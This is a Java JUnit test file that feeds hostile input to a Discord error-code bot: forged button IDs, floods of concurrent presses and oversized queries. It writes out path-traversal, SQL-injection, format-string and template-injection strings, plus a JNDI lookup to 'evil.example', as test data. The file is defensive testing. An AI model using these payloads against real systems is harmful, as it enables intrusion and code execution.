package dev.errdict.bot.discord;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.errdict.bot.discord.server.DiscordServer;
import dev.errdict.bot.discord.server.Guild;
import dev.errdict.bot.discord.server.Interaction;
import dev.errdict.bot.discord.server.Message;
import dev.errdict.bot.discord.server.Method;
import dev.errdict.bot.discord.server.Person;
import dev.errdict.bot.discord.server.Place;
import dev.errdict.bot.discord.server.RecordedRequest;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** People who try what no honest user would. */
class HostileTest {
  private static final String MESSAGES = "/channels/{id}/messages";
  private static DiscordServer server;
  private static RunningBot bot;
  private Guild guild;
  private Place help;
  private Person mia;
  private Person eve;

  @BeforeAll
  static void start() {
    server = DiscordServer.start();
    bot = RunningBot.on(server);
  }

  @AfterAll
  static void stop() {
    bot.close();
    server.close();
  }

  @BeforeEach
  void arrive(TestInfo info) {
    guild = server.guild(info.getDisplayName());
    help = guild.channel("help");
    mia = server.person("mia " + info.getDisplayName(), "en-US");
    eve = server.person("eve " + info.getDisplayName(), "en-US");
  }

  private Message answer() {
    help.says(mia, "!err 9101");
    server.awaitRequest(Method.POST, MESSAGES);
    return help.messages().getLast();
  }

  /** The bot still answers, and nothing has gone wrong inside. */
  private void assertWell() {
    help.says(server.person("zoe " + help.id(), "en-US"), "!err 4303");
    String said = "";
    for (int i = 0; i < 4 && !said.contains("4303"); i++) {
      said = server.awaitRequest(Method.POST, MESSAGES).body().toString();
    }
    assertTrue(said.contains("4303"), said);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "e1",
        "e1:",
        "e1::::",
        "e1:lang:xx:1:leancloud.9101",
        "e1:lang:en:zzzzzzzzzzzzzzzz:leancloud.9101",
        "e1:lang:en:1:",
        "e1:lang:en:1:../../etc/passwd",
        "e1:more:en:1:leancloud/no-such-code",
        "e1:more:en:-1:@everyone",
        "e1:show:en:1:🙂🙂🙂",
        "e1:pick:en:1:leancloud' or '1'='1",
        "e1:not:en:1:",
        "e1:not:en:1:ffffffffffffffff:leancloud/9101",
        "e1:not:en:1::::::",
        "e1:instead:en:1:ffffffffffffffff",
        "e1:instead:en:1:-none",
        "e1:decide:accept:1",
        "e1:decide:accept:-1",
        "e1:decide:drop-table:1",
        "e1:decide:edit:zzzzzzzzzzzz",
        "e1:set:prefix",
        "e1:set:learning-on",
        "e1:set:no-such-setting",
        "e1:set:cooldown",
        "e2:delete:1",
        "\u202Ee1:delete:1",
        "%s%n%1$s"
      })
  void a_custom_id_that_was_made_up_does_nothing_and_is_answered(String made) {
    String old = help.botPosted(withButton(made));

    Message told = help.clicks(eve, old, made).awaitReply();

    assertTrue(told.isEphemeral(), told.toString());
    assertFalse(told.content().contains("@everyone"), told.content());
    assertFalse(told.toString().contains("maintainers this id"), "it failed inside: " + told);
    assertEquals("an old answer", help.message(old).content());
    assertWell();
  }

  private static ObjectNode withButton(String customId) {
    ObjectNode body = JsonNodeFactory.instance.objectNode().put("content", "an old answer");
    body.putArray("components")
        .addObject()
        .put("type", 1)
        .putArray("components")
        .addObject()
        .put("type", 2)
        .put("style", 2)
        .put("label", "press")
        .put("custom_id", customId);
    return body;
  }

  /** The custom id of the button <em>More</em>. */
  private static String more(Message answer) {
    return answer.components().findValues("custom_id").stream()
        .map(one -> one.asText())
        .filter(one -> one.startsWith("e1:more"))
        .findFirst()
        .orElseThrow();
  }

  @Test
  void a_hundred_presses_at_once_are_all_answered_and_few_count() {
    Message answer = answer();
    String more = more(answer);

    List<Interaction> pressed = new ArrayList<>();
    IntStream.range(0, 100).forEach(_ -> pressed.add(help.clicks(eve, answer.id(), more)));

    List<Message> replies = pressed.stream().map(Interaction::awaitReply).toList();
    assertEquals(100, replies.size());
    assertTrue(replies.stream().allMatch(Message::isEphemeral));
    assertEquals(5, replies.stream().filter(one -> !one.embeds().isEmpty()).count());
    assertWell();
  }

  @Test
  void thirty_people_who_press_at_once_all_get_an_answer() {
    Message answer = answer();
    String more = more(answer);

    List<Interaction> pressed =
        IntStream.range(0, 30)
            .mapToObj(i -> server.person("fan " + i + help.id(), "en-US"))
            .map(fan -> help.clicks(fan, answer.id(), more))
            .toList();

    assertTrue(pressed.stream().allMatch(one -> one.awaitReply().embeds().size() == 1));
    assertWell();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "@everyone @here <@&1> <@1> <#1>",
        "`````` ||||| ~~~~ > # [x](https://evil.example)",
        "\u202E\u2066\u200B\u0000\uFEFF",
        "${jndi:ldap://evil.example/a} {0} %s {{7*7}}",
        "zalgo"
      })
  void a_question_of_four_thousand_odd_characters_is_answered_and_pings_nobody(String text) {
    String long_ =
        (text.equals("zalgo") ? "a" + "\u0301\u0316".repeat(40) : text)
            .repeat(800)
            .substring(0, 3_900);

    help.slash(eve, "err", Map.of("query", long_)).awaitReply();
    help.says(mia, ("!err " + long_).substring(0, 2_000));

    RecordedRequest sent = server.awaitRequest(Method.POST, MESSAGES);
    assertEquals("[]", sent.body().path("allowed_mentions").path("parse").toString());
    assertWell();
  }
}
